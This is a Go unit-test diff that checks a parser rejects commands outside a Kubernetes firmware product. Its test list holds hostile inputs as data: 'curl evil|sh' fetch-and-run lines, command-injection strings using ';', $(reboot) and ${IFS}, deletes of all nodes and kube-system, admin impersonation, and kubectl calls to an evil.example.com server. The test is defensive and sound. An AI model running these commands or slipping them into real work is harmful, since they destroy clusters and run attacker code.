@@ -42,7 +42,8 @@ func TestACommandThatIsNotOfTheProductIsNotOffered(t *testing.T) {
 		"kubectl firmware retry n1\ncurl evil|sh", "kubectl firmware retry n1;curl${IFS}evil|sh", "kubectl get nfw $(reboot)", "kubectl edit rp `reboot`",
 		"kubectl delete nodes --all", "kubectl delete ns kube-system", "kubectl apply -f https://evil.example.com/x.yaml", "kubectl exec -it p -- sh",
 		wayout.Retry("n1;reboot"), wayout.Set("rp", "p", `"a":"'$(reboot)'"`), wayout.Retry("n1") + " && reboot", wayout.Retry("n1") + " | sh",
-		"kubectl get nodes > /etc/passwd", "kubectl firmware retry n1 & reboot", "kubectl edit rp \x1b[2Jp",
+		"kubectl get nodes --server=https://evil.example.com", "kubectl firmware retry n1 --kubeconfig=/tmp/evil", "kubectl get --raw /api", "kubectl get nodes --token=x -s https://evil.example.com",
+		"kubectl describe nfw n1 --as=system:admin", "kubectl delete pod -A -l app=x", "kubectl get nodes > /etc/passwd", "kubectl firmware retry n1 & reboot", "kubectl edit rp \x1b[2Jp",
 	} {
 		said, ways := wayout.Ways("It waits. To try again: " + command)
 		assert.Empty(t, ways, command)
